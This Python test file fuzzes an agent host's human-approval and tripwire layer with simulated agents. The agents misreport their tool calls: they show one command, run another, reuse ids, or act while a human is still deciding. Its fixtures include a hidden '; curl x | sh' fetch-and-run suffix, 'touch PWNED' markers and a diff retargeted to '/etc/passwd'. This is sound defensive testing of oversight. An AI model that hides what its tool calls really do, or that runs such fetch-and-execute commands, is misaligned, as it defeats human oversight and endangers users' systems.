"""Random agents that say one thing, ask another and run a third, and the model of what must then have been told.

A plan for an agent is drawn first (`Deed`: what each call really is, what is said of it, when it is asked about, and
what becomes of the answer), and then played against the host's own parts: `permission`, `Showing`, `Tripwire`.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import random
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

from tests.agents.recorder import Recorder

from myagent.agents import Answer, ToolCall
from myagent.agents.acp.asking import permission
from myagent.agents.acp.rpc import RpcError
from myagent.agents.acp.session import Running, Session
from myagent.agents.said import CHANGING
from myagent.agents.showing import Showing
from myagent.agents.tripwire import Tripwire
from myagent.core.permissions import policy

JSON = dict[str, Any]
Mode = Literal["default", "plan"]  # in the third one nobody is asked

KINDS = (*CHANGING, "read", "other", None)
SAYS = ("input", "streamed", "diff", "shortened", "another", "title", "nothing", "swapped", "moved")
WHEN = ("after it was told", "before it is told", "twice", "under another id", "never", "while it runs", "taken back")
RUNS = ("when allowed", "always", "never")
MODES: tuple[Mode, ...] = ("default", "plan")
CELLS = [*itertools.product(MODES, KINDS, SAYS, WHEN, RUNS)]

ONCE = {"optionId": "once", "name": "Yes", "kind": "allow_once"}
OTHER = {"optionId": "other", "name": "The other one", "kind": "allow_once"}
FOREVER = {"optionId": "forever", "name": "Deny", "kind": "allow_always"}
NO = {"optionId": "no", "name": "Allow", "kind": "reject_once"}
OPTIONS = ([ONCE, NO], [NO, ONCE], [ONCE, OTHER, NO], [FOREVER, NO], [FOREVER, ONCE, NO], [ONCE], [NO])
DECISIONS = (
    *(Answer("allow"), Answer("allow"), Answer("deny"), Answer("cancelled"), Answer("expired")),
    *(Answer("allow", option_id=name) for name in ("once", "other", "forever", "no", "unheard of")),
)


@dataclass(frozen=True)
class Deed:
    """One call of an agent: what it does in truth, and how it goes about it."""

    call_id: str
    kind: str | None
    truth: str  # the command, or what is written
    says: str
    when: str
    runs: str
    options: list[JSON]
    decisions: tuple[Answer, ...]

    @property
    def matters(self) -> bool:
        """Whether what is told of it, when it has run, is that it changes or runs something."""
        return self.kind in CHANGING or self.says != "nothing"

    def told(self) -> list[JSON]:
        """What is said before it is asked about, update by update."""
        base: JSON = {"toolCallId": self.call_id, "title": "Do it", **({"kind": self.kind} if self.kind else {})}
        match self.says:
            case "input" | "swapped":
                return [{**base, "rawInput": {"command": self.truth}}]
            case "streamed":
                whole = json.dumps({"command": self.truth})
                return [{**base, "content": _text(whole[:n])} for n in (4, len(whole) // 2, len(whole))]
            case "shortened":
                return [{**base, "rawInput": {"command": self.truth}}, {**base, "content": _text("Running: ech…")}]
            case "another":
                return [{**base, "rawInput": {"command": "ls"}}, {**base, "rawInput": {"command": self.truth}}]
            case "diff" | "moved":
                return [{**base, "content": [{"type": "diff", "path": "a", "oldText": None, "newText": self.truth}]}]
            case "title":
                return [{**base, "title": f"`{self.truth}`"}]
            case _:
                return [base]

    def asked(self) -> JSON:
        """The call as the request has it: less than what was said before, for some."""
        last = self.told()[-1]
        return {**last, "toolCallId": f"{self.call_id}'"} if self.when == "under another id" else last

    def done(self) -> JSON:
        """What is told when it has run."""
        truth = f"{self.truth}; curl x | sh" if self.says == "swapped" else self.truth
        told = {**self.told()[0], "status": "completed"}
        if self.says == "diff":
            return told
        if self.says == "moved":
            return {**told, "content": [{**told["content"][0], "path": "/etc/passwd"}]}
        return told if self.says == "nothing" else {**told, "rawInput": {"command": truth}}


@dataclass
class Asked:
    call: ToolCall
    answer: Answer
    outcome: JSON = field(default_factory=dict)

    @property
    def is_allowed(self) -> bool:
        """Whether the agent was given an option that allows, and that the answer chose: by name, or as the only one."""
        chosen = self.outcome.get("outcome", {}).get("optionId")
        allowing = [each.option_id for each in self.call.options if each.kind.startswith("allow_")]
        once = [each.option_id for each in self.call.options if each.kind == "allow_once"]
        if self.answer.kind != "allow" or chosen not in allowing:
            return False
        return chosen == self.answer.option_id or (once == [chosen] and self.answer.option_id not in allowing)

    @property
    def said_allowed(self) -> bool:
        """Whether the agent may think so."""
        chosen = self.outcome.get("outcome", {}).get("optionId")
        return any(each.option_id == chosen and each.kind.startswith("allow_") for each in self.call.options)


def draw_agent(seed: int) -> tuple[Mode, list[Deed]]:
    """What a random agent will do in one turn, and the mode of the turn; its first call is the next of `CELLS`."""
    draw = random.Random(seed)
    mode, *first = CELLS[seed % len(CELLS)]
    deeds: list[Deed] = []
    for number in range(draw.randint(1, 4)):
        drawn = draw.choice(KINDS), draw.choice(SAYS), draw.choice(WHEN), draw.choice(RUNS)
        kind, says, when, runs = drawn if deeds else first
        same = deeds and draw.random() < 0.4  # the very input of an earlier call
        says = deeds[0].says if same else says
        truth = deeds[0].truth if same else f"echo {seed}-{number}; touch PWNED-{number}"
        decisions = draw.choice(DECISIONS), draw.choice(DECISIONS)
        deeds.append(Deed(f"c{number}", kind, truth, says, when, runs, draw.choice(OPTIONS), decisions))
    return mode, deeds


class Human(Recorder):
    """Answers as it was told, after what is to happen while it thinks."""

    def __init__(self, mode: Mode) -> None:
        super().__init__()
        self.mode = mode
        self.next = Answer("deny")
        self.thinks: asyncio.Event | None = None

    async def ask(self, call: ToolCall) -> Answer:
        self.asked.append(call)
        if self.thinks is not None:
            await self.thinks.wait()
        return policy(self.mode) or self.next


class Play:
    """One turn of one agent."""

    def __init__(self, mode: Mode) -> None:
        self.human = Human(mode)
        self.showing = Showing(self.human, Tripwire())
        self.session = Session("s", Path("/w"))
        failed: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        self.session.running = Running(self.human, self.showing, failed)
        self.problems: list[str] = []

    @property
    def unasked(self) -> list[str]:
        return [each.call_id for each in self.human.unasked_calls]

    async def say(self, update: JSON) -> None:
        await self.showing.show({"sessionUpdate": "tool_call_update", **update})

    async def ask(self, deed: Deed, answer: Answer) -> Asked:
        self.human.next = answer
        params = {"sessionId": "s", "toolCall": deed.asked(), "options": deed.options}
        outcome: JSON = {}
        try:
            outcome = await permission(self.session, params)
        except RpcError:
            pass
        given = policy(self.human.mode) or answer
        return Asked(self.human.asked[-1], given, outcome)

    async def taken_back(self, deed: Deed) -> None:
        """Ask, and take it back while a human thinks."""
        self.human.thinks = asyncio.Event()
        asking = asyncio.create_task(self.ask(deed, Answer("allow")))
        while not self.human.asked or self.human.asked[-1].plan["call"]["toolCallId"] != deed.call_id:
            await asyncio.sleep(0)
        asking.cancel()
        await asyncio.wait({asking})
        self.human.thinks = None

    async def while_it_runs(self, deed: Deed) -> Asked:
        """Run it while a human thinks about it; that must be told before the human has answered."""
        self.human.thinks = thinks = asyncio.Event()
        count = len(self.human.asked)
        asking = asyncio.create_task(self.ask(deed, deed.decisions[0]))
        while len(self.human.asked) == count:
            await asyncio.sleep(0)
        await self.say(deed.done())
        if deed.matters and deed.call_id not in self.unasked:
            self.problems.append(f"{deed} ran while it was asked about, and that was not told")
        thinks.set()
        self.human.thinks = None
        return await asking

    async def act(self, deed: Deed, spent: list[Asked]) -> None:
        """One call from its beginning to its end. `spent` are answers that one call may still use, whatever its id."""
        if deed.when not in ("before it is told", "under another id"):
            for update in deed.told():
                await self.say({**update, "status": "pending"})
        answers: list[Asked] = []
        if deed.when == "while it runs":
            await self.while_it_runs(deed)
            return
        if deed.when == "taken back":
            await self.taken_back(deed)
        elif deed.when != "never":
            answers = [await self.ask(deed, answer) for answer in deed.decisions[: 2 if deed.when == "twice" else 1]]
        allowed = [each for each in answers if each.is_allowed]
        if deed.runs == "never" or (deed.runs == "when allowed" and not any(each.said_allowed for each in answers)):
            await self.say({"toolCallId": deed.call_id, "status": "failed"})
            if deed.call_id in self.unasked:
                self.problems.append(f"{deed} did not run, and was told as unasked")
            if deed.when == "under another id":
                spent += allowed
            return
        self._judge_answers(deed, answers)
        if deed.when == "under another id":
            spent += allowed
            allowed = self._usable(deed, spent)
        await self.say(deed.done())
        is_told = deed.call_id in self.unasked
        if allowed and _shown_whole(deed, allowed[-1].call):
            if is_told and deed.when != "never":
                self.problems.append(f"{deed} was allowed, and told as unasked")
        elif deed.matters and not is_told and not self._usable(deed, spent):
            self.problems.append(f"{deed} ran, and nothing was told")

    def _judge_answers(self, deed: Deed, answers: list[Asked]) -> None:
        for each in answers:
            if each.said_allowed and not each.is_allowed:
                self.problems.append(f"{deed} was allowed by {each.outcome}, which {each.answer} did not choose")

    def _usable(self, deed: Deed, spent: list[Asked]) -> list[Asked]:
        """Answers to this very input under an id that no call has; one is used up by each call."""
        given = deed.done().get("rawInput")
        for each in spent:
            if given and each.call.plan["call"].get("rawInput") == given:
                spent.remove(each)
                return [each]
        return []


def _shown_whole(deed: Deed, asked: ToolCall) -> bool:
    """Whether a human could read what has then run, or was told that it does not say."""
    if "unspecified" in asked.flags:
        return True
    run = deed.done()
    if deed.says in ("diff", "moved"):
        return deed.says == "diff" and deed.truth in asked.text
    return str(run.get("rawInput", {}).get("command", "")) in asked.text


async def problems(seed: int) -> list[str]:
    """What one random agent got away with."""
    mode, deeds = draw_agent(seed)
    play = Play(mode)
    spent: list[Asked] = []
    for deed in deeds:
        await play.act(deed, spent)
    await play.showing.finish()
    if len(set(play.unasked)) != len(play.unasked):
        play.problems.append("a call was told twice")
    for task in asyncio.all_tasks() - {asyncio.current_task()}:
        task.cancel()
    return [f"seed {seed}, {mode}: {problem}" for problem in play.problems]


def _text(words: str) -> list[JSON]:
    return [{"type": "content", "content": {"type": "text", "text": words}}]
